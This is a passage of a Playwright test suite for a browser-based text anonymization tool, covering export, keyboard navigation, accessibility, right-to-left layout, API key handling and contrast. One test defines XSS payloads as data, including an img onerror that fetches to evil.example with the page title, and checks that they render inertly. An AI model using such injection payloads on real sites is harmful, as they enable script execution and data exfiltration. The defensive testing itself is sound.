        assert archive.read(names[2]).decode() == "id,mail\n<EMAIL_ADDRESS>,<EMAIL_ADDRESS>\n"
    # Only one column, and another format.
    page.click("#files summary")
    page.fill("#files [name=columns]", "2")
    page.select_option("#files [name=output_format]", "jsonl")
    page.click("#files [name=again]")
    page.wait_for_selector("#status:has-text('5 of 5 files done.')")
    row = page.locator("#file-list li").filter(has_text="דוח.csv")
    row.get_by_text("Preview").click()
    shown = page.inner_text("#sheet pre")
    assert "<EMAIL_ADDRESS>" in shown and "bo@example.org" not in shown and shown.startswith("{")
    page.click("#sheet-copy")
    page.wait_for_selector("#status:has-text('Copied.')")
    assert page.evaluate("navigator.clipboard.readText()").strip() == shown.strip()
    tab.watch.expected = ["40", "42"]


def test_an_archive_of_the_browser_is_read_by_others(tab):
    rng = random.Random(5)
    files = [
        [f"{number}/ש {number}.bin", [rng.randrange(256) for _ in range(size)]]
        for number, size in enumerate((0, 1, 300))
    ]
    data = tab.evaluate(
        """async (m, files) => { const { zipOf } = await import('/page/zip.js');
        const blob = await zipOf(files.map(([name, bytes]) => ({ name, blob: new Blob([new Uint8Array(bytes)]) })));
        return [...new Uint8Array(await blob.arrayBuffer())]; }""",
        files,
    )
    with ZipFile(BytesIO(bytes(data))) as archive:
        assert archive.testzip() is None
        assert [[info.filename, list(archive.read(info))] for info in archive.infolist()] == files


def test_all_can_be_done_with_the_keyboard(tab):
    page = tab.page
    press = page.keyboard.press
    page.select_option("#pipeline", "en")
    page.focus("body")
    seen = []
    for _ in range(20):
        press("Tab")
        seen.append(page.evaluate("document.activeElement.id || document.activeElement.textContent"))
        outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert outline != "none" or seen[-1] == "Skip to the text"
        if seen[-1] == "original":
            break
    assert seen == [
        "Skip to the text",
        "tab-anonymize",
        "tab-restore",
        "pipeline",
        "policy",
        "threshold",
        "names",
        "mapping",
        "copy-as",
        "theme",
        "example",
        "open",
        "run",
        "original",
    ]
    page.keyboard.insert_text(TEXT)
    press("Control+Enter")
    tab.done()
    # The focus is on the first finding; the arrows go on, and Tab leaves for the other text.
    focused = "[document.activeElement.textContent, document.activeElement.closest('.text')?.id]"
    assert page.evaluate(focused) == ["ada@example.org", "before"]
    press("End")
    press("ArrowLeft")
    assert page.evaluate(focused) == ["212-555-0147", "before"]
    press("Delete")
    tab.done()
    assert "212-555-0147" in tab.new_text()
    assert page.evaluate(focused) == ["ada@example.org", "before"]
    # Another label.
    press("Enter")
    assert page.evaluate("document.activeElement.name") == "search"
    page.keyboard.type("USERN")
    press("Enter")
    tab.done()
    assert tab.found()[-1] == ["ada@example.org", "USERNAME"]
    assert page.evaluate("document.querySelector('#before').contains(document.activeElement)")
    # A new span: from the pane back to the button, a selection, a label.
    press("Enter")
    press("Escape")
    assert page.is_hidden("#fix")
    for _ in range(6):
        press("Shift+Tab")
        if page.evaluate("document.activeElement.id") == "by-keyboard":
            break
    press("Enter")
    press("Control+End")
    for _ in range(len("at ada@example.org.")):
        press("ArrowLeft")
    press("ArrowLeft")
    for _ in range(len("zebra is")):
        press("Shift+ArrowLeft")
    press("Delete")
    press("Enter")
    assert page.inner_text("#fix .quote") == "zebra is"
    page.keyboard.type("PERSON")
    press("Enter")
    tab.done()
    assert ["zebra is", "PERSON"] in tab.found()
    press("Control+z")
    tab.done()
    assert ["zebra is", "PERSON"] not in tab.found()
    press("Control+Shift+z")
    tab.done()
    assert ["zebra is", "PERSON"] in tab.found()
    # What happened is told to screen readers.
    assert page.get_attribute("#status", "aria-live") == "polite" and "4 findings" in page.inner_text("#status")


def test_every_control_has_a_name(tab):
    tab.run(TEXT)
    page = tab.page
    page.click("#before mark >> nth=0")
    unnamed = page.evaluate(
        """[...document.querySelectorAll('button, input, select, textarea, [role=dialog], [role=group], dialog')]
        .filter((each) => !(each.ariaLabel || each.textContent.trim() || each.getAttribute('aria-labelledby') || each.labels?.length)).map((each) => each.outerHTML)"""
    )
    assert unnamed == []


def test_right_to_left_text_is_laid_out_so_by_paragraph(tab):
    page = tab.page
    tab.run("דנה לוי, טלפון 052-1234567, היום\nMail ada@example.org\n\nשלום וברכה", "")
    assert "Pipeline: he" in page.inner_text("#status")
    for pane in ("#before", "#after"):
        assert page.locator(f"{pane} .line").evaluate_all(
            "(lines) => lines.map((line) => getComputedStyle(line).direction)"
        ) == ["rtl", "ltr", "ltr", "rtl"]
        left, right = page.locator(f"{pane} .line").first.evaluate(
            """(line) => { const range = document.createRange(); range.selectNodeContents(line);
            const [box, text] = [line, range].map((each) => each.getBoundingClientRect()); return [text.left - box.left, box.right - text.right]; }"""
        )
        assert left > 10 and right < 2
    assert ["052-1234567", "PHONE_NUMBER"] in tab.found()
    # Another pipeline is asked at once.
    page.select_option("#pipeline", "en")
    tab.done()
    assert "Pipeline: en" in page.inner_text("#status")
    page.click("#edit")
    assert page.evaluate("getComputedStyle(document.querySelector('#original')).direction") == "rtl"


def test_the_page_works_below_a_path_of_a_proxy(new_tab):
    tab = new_tab()
    tab.page.route(
        "**/below/**", lambda route: route.fulfill(response=route.fetch(url=route.request.url.replace("/below", "")))
    )
    tab.page.goto(f"{tab.origin}/below/")
    tab.page.wait_for_selector("#pipeline option:nth-child(2)", state="attached")
    tab.run(TEXT)
    assert len(tab.found()) == 4
    assert {each.url.replace(tab.origin, "").split("/")[1] for each in tab.watch.requests} == {"below"}


HOSTILE = (
    "<img src=x onerror=fetch('https://evil.example/'+document.title)> <script>window.hit=1</script> "
    "<svg onload=window.hit=1> javascript:window.hit=1 \"><a href='https://evil.example'>x</a> ${window.hit=1} {{7*7}} ada@example.org\x00\u202e"
)


def test_hostile_text_is_only_text(tab):
    page = tab.page
    tab.run(HOSTILE)
    assert page.inner_text("#before .line >> nth=0").startswith("<img src=x onerror=")
    page.click("#before mark >> nth=0")
    page.select_option("#fix select", "PERSON")
    page.click("#fix [name=set]")
    tab.done()
    # The operator's value is hostile too.
    page.select_option(operator_select("PERSON"), "replace")
    tab.done()
    page.click("#labels button[aria-label='Parameters of PERSON']")
    page.locator("#labels tr.params label.param").filter(has_text="value").locator("input").fill(
        "<img src=https://evil.example/y onerror=window.hit=1>"
    )
    page.keyboard.press("Tab")
    tab.done()
    assert "evil.example/y" in tab.new_text()
    page.hover("#after mark >> nth=-1")
    assert page.evaluate("window.hit") is None
    assert page.locator("main img, main a, main script, main svg, #detail img, #fix img").count() == 0
    # The watch checks that nothing was sent to evil.example.
    assert page.evaluate("[localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
    assert all(each.url == f"{tab.origin}/" or "?" not in each.url for each in tab.watch.requests)


def test_a_key_is_asked_for_when_the_server_wants_one_and_is_kept_in_memory_only(new_tab):
    tab = new_tab()
    page = tab.page
    tab.watch.expected = ["401"]

    def guard(route):
        if route.request.headers.get("x-api-key") == "right key":
            return route.continue_()
        return route.fulfill(status=401, json={"error": "[SA505] a key is needed", "code": "SA505"})

    page.route("**/v1/**", guard)
    page.goto(f"{tab.origin}/")
    page.wait_for_selector("#key[open]")
    page.fill("#key-value", "wrong key")
    page.keyboard.press("Enter")
    page.wait_for_selector("#key[open] #key-value:placeholder-shown")
    page.fill("#key-value", "right key")
    page.keyboard.press("Enter")
    page.wait_for_selector("#pipeline option:nth-child(2)", state="attached")
    tab.run(TEXT)
    assert len(tab.found()) == 4
    assert page.is_hidden("#key")
    assert page.evaluate(
        "JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, location.href])"
    ) == json.dumps([{}, {}, "", f"{tab.origin}/"], separators=(",", ":"))
    page.reload()
    page.wait_for_selector("#key[open]")
    page.keyboard.press("Escape")
    page.wait_for_selector("#problem:not([hidden])")
    assert page.inner_text("#problem-code") == "SA505" and page.inner_text("#problem-text") == "a key is needed"


CONTRAST = """() => {
  const canvas = new OffscreenCanvas(1, 1).getContext('2d', { willReadFrequently: true });
  const pixels = (...colors) => { canvas.clearRect(0, 0, 1, 1); for (const c of colors) { canvas.fillStyle = c; canvas.fillRect(0, 0, 1, 1); } return [...canvas.getImageData(0, 0, 1, 1).data]; };
  const light = (rgb) => { const [r, g, b] = rgb.map((v) => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4); return 0.2126 * r + 0.7152 * g + 0.0722 * b; };
  const grounds = (e) => { const all = []; for (; e; e = e.parentElement) all.unshift(getComputedStyle(e).backgroundColor); return all; };
  const poor = [];
  for (const e of document.querySelectorAll('body *')) {
    if (e.disabled || !e.checkVisibility() || ![...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim())) continue;
    const base = grounds(e); const back = light(pixels(...base).slice(0, 3));
    for (const pseudo of ['', '::after']) {
      const style = getComputedStyle(e, pseudo || null);
      canvas.globalAlpha = 1; pixels(...base); canvas.globalAlpha = Number(style.opacity); canvas.fillStyle = style.color; canvas.fillRect(0, 0, 1, 1); canvas.globalAlpha = 1;
      const front = light([...canvas.getImageData(0, 0, 1, 1).data].slice(0, 3));
      const ratio = (Math.max(front, back) + 0.05) / (Math.min(front, back) + 0.05);
      if (ratio < 4.5) poor.push([e.tagName, e.id || e.className, e.textContent.slice(0, 20), pseudo, ratio]);
    }
  }
  return poor; }"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_texts_have_contrast_in_both_themes(new_tab, scheme):
    tab = new_tab(color_scheme=scheme).open()
    page = tab.page
    tab.run(TEXT)
    # A mark of each colour there is.
    page.evaluate(
        """async () => { const all = Object.entries((await (await fetch('v1/pipelines')).json()).labels);
        const mark = document.querySelector('#before mark'); for (const [name, { color }] of all) { const other = mark.cloneNode(true);
        other.dataset.label = name; other.style.setProperty('--c', color); mark.parentElement.append(other); } }"""
    )
    page.hover("#before mark >> nth=0")
    assert page.evaluate(CONTRAST) == []
    page.click("#before mark >> nth=0")
    assert page.evaluate(CONTRAST) == []
    ground = "getComputedStyle(document.body).backgroundColor"
    before = page.evaluate(ground)
    page.keyboard.press("Escape")
    for name in ("light", "dark", "auto"):
        page.click("#theme")
        assert name in page.inner_text("#theme")
        assert (page.evaluate(ground) == before) == (name in (scheme, "auto"))


def test_a_narrow_screen_does_not_scroll_sideways(new_tab):
    tab = new_tab(viewport={"width": 340, "height": 700}, has_touch=True).open()
    tab.run(TEXT + "\n" + "x" * 500)
    page = tab.page
    assert page.evaluate("document.documentElement.scrollWidth") <= 340
    page.locator("#before mark").first.tap()
    box = page.locator("#fix").bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= 340


def test_a_long_text_is_shown_whole_and_can_be_corrected(tab):
    page = tab.page
    line = "Line of a long text with ada@example.org to mail and a phone, 212-555-0147, and other things, \U0001f600.\n"
    text = line * (200_000 // len(line))
    page.select_option("#pipeline", "en")
    page.evaluate("(text) => { document.querySelector('#original').value = text; }", text)
    page.click("#run")
    tab.done()
    count = text.count("\n") * 2
    assert page.locator("#before mark").count() == page.locator("#after mark").count() == count
    assert tab.new_text() == text.replace("ada@example.org", "<EMAIL_ADDRESS>").replace(
        "212-555-0147", "<PHONE_NUMBER>"
    )
    page.locator("#before mark").first.focus()
    page.keyboard.press("End")
    assert page.locator("#before mark >> nth=-1").evaluate(
        "(mark) => { const box = mark.getBoundingClientRect(); return box.top > 0 && box.bottom < innerHeight && mark === document.activeElement; }"
    )
    assert page.locator("#after mark >> nth=-1").evaluate(
        "(mark) => { const box = mark.getBoundingClientRect(); return box.top > 0 && box.bottom < innerHeight; }"
    )
    # The details are beside it, though both texts were scrolled.
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    mark, detail = page.locator("#before mark >> nth=-1").bounding_box(), page.locator("#detail").bounding_box()
    assert "PHONE_NUMBER" in page.inner_text("#detail") and abs(mark["x"] - detail["x"]) < 2
    assert min(abs(mark["y"] + mark["height"] - detail["y"]), abs(detail["y"] + detail["height"] - mark["y"])) < 10
    page.keyboard.press("Delete")
    tab.done()
    assert page.locator("#before mark").count() == count - 1
    assert tab.new_text().rstrip().splitlines()[-1] == line.rstrip().replace("ada@example.org", "<EMAIL_ADDRESS>")
